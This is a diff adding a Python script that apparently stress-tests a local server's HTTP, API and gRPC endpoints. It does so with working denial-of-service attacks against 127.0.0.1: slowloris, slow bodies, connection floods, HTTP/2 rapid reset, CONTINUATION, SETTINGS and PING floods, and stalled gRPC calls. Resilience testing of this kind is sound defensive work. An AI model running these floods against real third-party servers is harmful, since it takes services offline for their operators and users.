@@ -1,0 +1,224 @@
+"""What rude peers do, each until it is ended: `python attacks.py NAME PORT` (an address of 127.0.0.1).
+
+By raw sockets, since no client library does any of it. Servers close on most of them; they come again.
+"""
+
+from __future__ import annotations
+
+import contextlib
+import itertools
+import select
+import socket
+import struct
+import sys
+import time
+from collections.abc import Callable, Iterator
+
+CROWD = 500  # slow ones at a time
+FLOOD = 10_000  # connections
+STREAMS = 10_000
+EXPORT = b"/opentelemetry.proto.collector.logs.v1.LogsService/Export"
+POST = b"POST /v1/logs HTTP/1.1\r\nhost: x\r\ncontent-type: application/x-protobuf\r\n"
+
+# HTTP/2.
+PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+DATA, HEADERS, RST, SETTINGS, PING, CONTINUATION = 0, 1, 3, 4, 6, 9
+ACK = END_STREAM = 1
+END_HEADERS = 4
+
+
+def frame(kind: int, flags: int = 0, stream: int = 0, payload: bytes = b"") -> bytes:
+    """One frame."""
+    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload
+
+
+def block(*more: tuple[bytes, bytes], path: bytes = EXPORT, kind: bytes = b"application/grpc") -> bytes:
+    """The headers of a gRPC call, in HPACK without Huffman or tables; more: further headers."""
+    named = [(b"content-type", kind), (b"te", b"trailers"), *more]
+    literals = [b"\x04" + _text(path), b"\x01" + _text(b"x")]
+    literals += [b"\x00" + _text(name) + _text(value) for name, value in named]
+    return b"\x83\x86" + b"".join(literals)  # POST, http
+
+
+def _text(value: bytes) -> bytes:
+    if len(value) < 127:
+        return bytes([len(value)]) + value
+    rest, length = len(value) - 127, bytearray(b"\x7f")
+    while rest > 127:
+        length.append(rest & 127 | 128)
+        rest >>= 7
+    return bytes([*length, rest]) + value
+
+
+def message(payload: bytes, *, compressed: bool = False) -> bytes:
+    """One message as gRPC frames it."""
+    return bytes([compressed]) + struct.pack(">I", len(payload)) + payload
+
+
+def connected(port: int) -> socket.socket:
+    """A connection; OSError as sockets have it."""
+    return socket.create_connection(("127.0.0.1", port), 5)
+
+
+def greeted(port: int) -> socket.socket:
+    """An HTTP/2 connection behind its handshake."""
+    peer = connected(port)
+    peer.sendall(PREFACE + frame(SETTINGS) + frame(SETTINGS, ACK))
+    return peer
+
+
+def _trickle(
+    port: int, first: bytes, part: bytes, *, opened: Callable[[int], socket.socket] = connected
+) -> None:
+    """A crowd that sends something, then a little each second; who is closed comes again."""
+    peers: list[socket.socket] = []
+    while True:
+        began = time.monotonic()
+        for peer in list(peers):
+            try:
+                peer.send(part)
+            except OSError:
+                peer.close()
+                peers.remove(peer)
+        while len(peers) < CROWD:
+            try:
+                peer = opened(port)
+                peers.append(peer)
+                peer.send(first)
+            except OSError:
+                break
+        time.sleep(max(0.0, 1 - (time.monotonic() - began)))
+
+
+def _hammer(
+    port: int, parts: Callable[[], Iterator[bytes]], opened: Callable[[int], socket.socket] = greeted
+) -> None:
+    """Sends as fast as it is taken and reads next to nothing; when it is closed, comes again."""
+    while True:
+        with contextlib.suppress(OSError), opened(port) as peer:
+            peer.settimeout(1)
+            for part in parts():
+                peer.sendall(part)
+                if select.select([peer], [], [], 0)[0]:
+                    peer.recv(1 << 20)
+        time.sleep(0.01)
+
+
+def slow_headers(port: int) -> None:
+    """Slow loris: the header block never ends."""
+    _trickle(port, POST, b"x")
+
+
+def slow_bodies(port: int) -> None:
+    """The body is announced and comes a byte a second."""
+    _trickle(port, POST + b"content-length: 1000\r\n\r\n", b"\x00")
+
+
+def half_closed(port: int) -> None:
+    """Half a body, and the sending side is closed."""
+
+    def opened(port: int) -> socket.socket:
+        peer = connected(port)
+        peer.sendall(POST + b"content-length: 1000\r\n\r\nhalf")
+        peer.shutdown(socket.SHUT_WR)
+        return peer
+
+    _trickle(port, b"", b"", opened=opened)
+
+
+def flood(port: int, opened: Callable[[int], socket.socket] = connected) -> None:
+    """Connections that do nothing."""
+    peers: list[socket.socket] = []
+    while True:
+        with contextlib.suppress(OSError):
+            peers.append(opened(port))
+        if len(peers) > FLOOD:
+            peers.pop(0).close()
+            time.sleep(0.01)
+
+
+def flood_greeted(port: int) -> None:
+    """HTTP/2 connections that do nothing."""
+    flood(port, greeted)
+
+
+def vanishing(port: int) -> None:
+    """Asks for much, and is gone before the answer."""
+    ask = b"GET /metrics HTTP/1.1\r\nhost: x\r\n\r\n" * 20
+    reset = struct.pack("ii", 1, 0)
+    while True:
+        with contextlib.suppress(OSError), connected(port) as peer:
+            peer.sendall(ask)
+            peer.recv(1)
+            peer.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, reset)
+        time.sleep(0.05)
+
+
+def rapid_reset(port: int) -> None:
+    """Streams that are opened and reset at once."""
+    head = block()
+
+    def parts() -> Iterator[bytes]:
+        for stream in range(1, 2 * STREAMS, 200):
+            yield b"".join(
+                frame(HEADERS, END_HEADERS, n, head) + frame(RST, 0, n, struct.pack(">I", 8))
+                for n in range(stream, stream + 200, 2)
+            )
+
+    _hammer(port, parts)
+
+
+def continuations(port: int) -> None:
+    """A header block that goes on for ever."""
+
+    def parts() -> Iterator[bytes]:
+        yield frame(HEADERS, 0, 1, block())
+        more = frame(
+            CONTINUATION, 0, 1, b"".join(b"\x00" + _text(b"x%d" % n) + _text(b"y" * 100) for n in range(100))
+        )
+        while True:
+            yield more
+
+    _hammer(port, parts)
+
+
+def settings(port: int) -> None:
+    """SETTINGS, each of which asks for an ACK."""
+    _hammer(port, lambda: itertools.repeat(frame(SETTINGS) * 1000))
+
+
+def pings(port: int) -> None:
+    """PINGs, the same."""
+    _hammer(port, lambda: itertools.repeat(frame(PING, 0, 0, bytes(8)) * 1000))
+
+
+def half_calls(port: int) -> None:
+    """As many calls as the connection may have, with a message that comes a byte a second."""
+
+    def opened(port: int) -> socket.socket:
+        peer = greeted(port)
+        begun = message(b"x" * 1000)[:100]
+        for stream in range(1, 33, 2):
+            peer.sendall(frame(HEADERS, END_HEADERS, stream, block()) + frame(DATA, 0, stream, begun))
+        return peer
+
+    _trickle(port, b"", frame(DATA, 0, 1, b"x"), opened=opened)
+
+
+# name -> (the door, the attack)
+ATTACKS: dict[str, tuple[str, Callable[[int], None]]] = {
+    "slow headers": ("http", slow_headers),
+    "slow bodies": ("http", slow_bodies),
+    "half-closed": ("http", half_closed),
+    "10,000 connections": ("http", flood),
+    "gone before the answer": ("api", vanishing),
+    "rapid reset": ("grpc", rapid_reset),
+    "endless headers": ("grpc", continuations),
+    "SETTINGS": ("grpc", settings),
+    "PING": ("grpc", pings),
+    "calls that never end": ("grpc", half_calls),
+    "10,000 HTTP/2 connections": ("grpc", flood_greeted),
+}
+
+if __name__ == "__main__":
+    ATTACKS[sys.argv[1]][1](int(sys.argv[2]))
